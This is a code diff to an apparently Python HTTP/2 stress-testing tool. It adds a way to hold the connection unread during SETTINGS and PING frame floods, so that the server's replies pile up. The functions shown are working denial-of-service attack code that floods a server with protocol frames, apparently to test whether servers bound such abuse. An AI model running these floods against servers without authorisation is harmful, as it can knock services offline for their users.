@@ -163,6 +163,16 @@ class RawConnection:
         self.result.bytes_sent += len(data)
         return True
 
+    def hold_unread(self, seconds):
+        """Reads nothing for up to `seconds`, or until the server ends the connection (our TCP
+        state leaves ESTABLISHED: its RST, or its FIN, arrived), so that what the server answers
+        piles up on its side. A flood written into a server that reads slower than we write
+        lands in its receive buffer (tcp_rmem grows to 32 MiB); reading as soon as we are done
+        would drain its answers as fast as it makes them and no bound would ever be reached."""
+        end = time.monotonic() + seconds
+        while time.monotonic() < end and self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == 1:
+            time.sleep(0.02)
+
     def request_block(self, path, method="GET", headers=()):
         hdrs = [(":method", method), (":scheme", self.scheme), (":authority", self.authority),
                 (":path", path), *[(k.lower(), v) for k, v in headers]]
@@ -357,10 +367,11 @@ def big_header_list(host, port, *, size=1 << 20, value_size=4096, path="/", meth
 
 
 def settings_flood(host, port, *, n=5000, settings=None, tls=None, server_hostname=None, authority=None,
-                   drain=1.0, timeout=15):
+                   drain=1.0, timeout=15, hold=0):
     """n SETTINGS frames (default each sets ENABLE_PUSH=0) written without reading anything, so
-    the server's ACKs pile up on its side (a 64 KiB receive buffer); then reads. send_error
-    "timeout" means the server stopped reading. detail: settings_frames_sent."""
+    the server's ACKs pile up on its side (a 64 KiB receive buffer); then, after up to `hold` s
+    more without reading (RawConnection.hold_unread), reads. send_error "timeout" means the
+    server stopped reading. detail: settings_frames_sent."""
     c = RawConnection(host, port, tls=tls, server_hostname=server_hostname, authority=authority,
                       timeout=timeout, result=AttackResult("settings_flood"), rcvbuf=64 * 1024)
     frame = SettingsFrame(0, settings=settings or {SettingsFrame.ENABLE_PUSH: 0}).serialize()
@@ -370,15 +381,17 @@ def settings_flood(host, port, *, n=5000, settings=None, tls=None, server_hostna
         if not c.send(frame * k, frames=k):
             break
         sent += k
+    c.hold_unread(hold)
     c.wait_until(c.over, quiet=drain)
     c.result.detail.update(settings_frames_sent=sent)
     return c.close()
 
 
 def ping_flood(host, port, *, n=5000, read_while_sending=False, tls=None, server_hostname=None,
-               authority=None, drain=1.0, timeout=15):
+               authority=None, drain=1.0, timeout=15, hold=0):
     """n PING frames (8 bytes of opaque data each); reads while sending only if asked (if not,
-    with a 64 KiB receive buffer). ping_acks counts the answers. detail: pings_sent."""
+    with a 64 KiB receive buffer, and after up to `hold` s more without reading,
+    RawConnection.hold_unread). ping_acks counts the answers. detail: pings_sent."""
     c = _open("ping_flood", host, port, tls, server_hostname, authority, timeout,
               rcvbuf=None if read_while_sending else 64 * 1024)
     sent = 0
@@ -390,6 +403,8 @@ def ping_flood(host, port, *, n=5000, read_while_sending=False, tls=None, server
         sent += k
         if read_while_sending:
             c.poll(0)
+    if not read_while_sending:
+        c.hold_unread(hold)
     c.wait_until(lambda: c.over() or c.result.ping_acks >= sent, quiet=drain)
     c.result.detail.update(pings_sent=sent)
     return c.close()
